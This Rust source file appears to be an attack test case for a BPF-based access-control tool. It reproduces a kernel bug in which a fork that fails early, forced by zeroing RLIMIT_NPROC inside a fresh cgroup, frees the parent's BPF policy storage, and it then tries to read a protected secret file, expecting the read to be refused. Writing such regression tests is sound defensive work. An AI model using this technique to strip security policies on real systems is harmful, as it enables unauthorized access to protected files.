//! A fork that fails early frees what sticks to its parent, on kernels that wipe the child's copy of the pointer too late
//! ("bpf,fork: wipe ->bpf_storage before bailouts that access it").

use std::os::fd::AsRawFd;
use std::time::Duration;

use nix::sys::resource::{Resource, setrlimit};
use nix::unistd::{ForkResult, Uid, fork, setresuid};

use crate::calls::process::{CLONE_INTO_CGROUP, Channel, clone3, exit, finished};

use crate::prelude::*;

pub(crate) const ATTACK: Attack = Attack {
    name: "failed-fork",
    told: "leave my cgroup, and fork where I may have no more processes until my policy is forgotten",
    kernels: Kernels::All,
    ordinary: false,
    rows,
    run,
};

/// The kernel frees in a callback of RCU, of which nothing tells when it has run: 10 to 1,000 ms later. A look that comes in
/// between may be refused for want of memory to judge it in, which is not what this attack is about.
const PAUSE: Duration = Duration::from_secs(2);

fn rows() -> Vec<Case> {
    vec![
        ATTACK
            .row(&["{refuge}", "{dir}/secret"])
            .file("{dir}/secret")
            .allowed_by("file.read", "{dir}/secret")
            .refused(Hook::FileOpen, Family::File, Reason::NoRule)
            .needing("read")
            .about("{dir}/secret"),
    ]
}

fn run(words: &[&str]) -> Outcome {
    let [cgroup, secret] = arguments(words)?;
    let cgroup = calls::files::open(cgroup, OFlag::O_PATH)?;
    let number = u64::from(cgroup.as_raw_fd().unsigned_abs());
    let channel = Channel::new()?;
    match clone3(CLONE_INTO_CGROUP, libc::SIGCHLD, number).at("clone3")? {
        None => {
            let outcome = forget_and_steal(secret);
            channel.finish(outcome)
        }
        Some(child) => finished(channel, child),
    }
}

fn forget_and_steal(secret: &str) -> Outcome {
    // Root may always have more.
    let user = Uid::from_raw(1000);
    setrlimit(Resource::RLIMIT_NPROC, 0, 0).at("setrlimit")?;
    setresuid(user, user, user).at("setresuid")?;
    // SAFETY: single threaded, and the child only exits.
    match unsafe { fork() } {
        Ok(ForkResult::Child) => exit(0),
        Ok(ForkResult::Parent { .. }) => {
            Err(Failure { step: "a fork that should fail".into(), errno: libc::EREMOTEIO })
        }
        Err(_) => {
            std::thread::sleep(PAUSE);
            calls::files::steal(secret)
        }
    }
}
